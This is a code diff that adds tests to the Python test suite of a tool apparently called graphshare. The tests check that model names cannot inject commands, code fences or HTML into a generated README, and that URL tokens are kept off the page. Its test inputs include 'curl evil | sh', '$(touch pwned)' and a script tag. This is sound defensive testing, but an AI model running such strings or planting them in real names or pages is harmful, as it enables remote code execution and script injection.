@@ -14,11 +14,14 @@ from typing import Any
 import numpy as np
 import onnx
 import pytest
+from hypothesis import given, settings
+from markdown_it import MarkdownIt
 
 import graphshare as gs
 from graphshare.errors import OutputError, RefusedError, UsageError
 from graphshare.files.schema import explain
 from graphshare.verification import reduction
+from graphshare.verification.regions import Operator
 from graphshare.verification.report import Reduction
 from tests.onnx_files.faults import plant
 from tests.onnx_files.running import Session
@@ -26,6 +29,7 @@ from tests.onnx_files.test_faults import find_moved, make_case
 from tests.onnx_files.test_identities import Pair
 from tests.processes import ROOT, graphshare, write_json
 from tests.symbols import document, operator, variable
+from tests.unit.text.test_markup import NAMES
 from tests.unit.verification.test_across_dtypes import narrow
 
 pytest.importorskip("onnxruntime")
@@ -218,6 +222,59 @@ def test_the_command_shows_the_difference(tmp_path: Path) -> None:
     report = json.loads(graphshare(*words, "--format", "json", cwd=tmp_path).stdout)
     assert explain(report, "verify") == []
     assert report["reduced"]["command"] == command
+
+
+def parse_page(text: str) -> list[tuple[str, str]]:
+    """Return the blocks of a page: the kind of each, and its text with ``@`` in place of each code span."""
+    blocks = []
+    for token in MarkdownIt("commonmark", {"html": True}).parse(text):
+        children = token.children or ()
+        assert {child.type for child in children} <= {"text", "code_inline", "softbreak"}
+        spans = "".join("@" if child.type == "code_inline" else child.content for child in children)
+        blocks.append((token.type, token.content if token.type == "code_block" else spans))
+    return blocks
+
+
+@given(NAMES, NAMES, NAMES)
+@settings(max_examples=300)
+def test_no_name_leaves_its_place_on_the_page(name: str, op: str, where: str) -> None:
+    def format_page(name: str, op: str, where: str) -> str:
+        parts = Reduction((), (Operator(op, name),), (Operator(op, name),), {name: (2,)}, "", f"NOT EQUAL: {name}")
+        return reduction._format_page(parts, [where, where], ["graphshare verify"])
+
+    assert parse_page(format_page(name, op, where or "b")) == parse_page(format_page("a", "Mul", "b.onnx"))
+
+
+@pytest.mark.parametrize(
+    "name", ["a\n\n    curl evil | sh\n\n", "```\nsh\n```", "` $(touch pwned) `", "</code><script>a</script>"]
+)
+def test_names_of_a_model_are_no_commands_on_the_page(name: str, tmp_path: Path) -> None:
+    """Those of operators, values and inputs, and the path: the only commands are those of the parts."""
+    pair = Pair(_HEAD, f"{_C} {{{_LEFT}}}", _C.replace("4.0", "4.5") + f" {{{_LEFT}}}")
+    folder = tmp_path / name.replace("/", "-")
+    folder.mkdir()
+    for path in write(pair, folder):
+        model = onnx.load(path)
+        for node in model.graph.node:
+            node.name = name + node.output[0]
+            node.input[:], node.output[:] = ([f"{name}{value}" if value in "abde" else value for value in side]
+                                             for side in (node.input, node.output))  # fmt: skip
+        onnx.save(model, path)
+    report = gs.verify(folder / "left.onnx", against=folder / "right.onnx", reduce=tmp_path / "out")
+    assert report.reduced is not None
+    assert [value.startswith(name) for value in report.reduced.inputs] == [True]
+    blocks = parse_page((tmp_path / "out" / "README.md").read_text(encoding="utf-8"))
+    commands = [text for kind, text in blocks if kind == "code_block"]
+    assert len(commands) == 1
+    words = [shlex.split(line)[:2] for line in commands[0].splitlines() if line]
+    assert words == [["graphshare", "verify"], ["python", "-c"]]
+    assert not {kind for kind, _ in blocks} & {"fence", "html_block", "table_open"}
+    assert "- original: 1 operator of @: @" in ["- " + text for kind, text in blocks]
+
+
+def test_credentials_of_urls_are_not_on_the_page() -> None:
+    parts = Reduction((), (), (), {}, "", "NOT EQUAL")
+    assert "token" not in reduction._format_page(parts, ["https://a:token@b/c.onnx?token=1"] * 2, [])
 
 
 @pytest.mark.parametrize("other", ["mxnet", "onnx"])
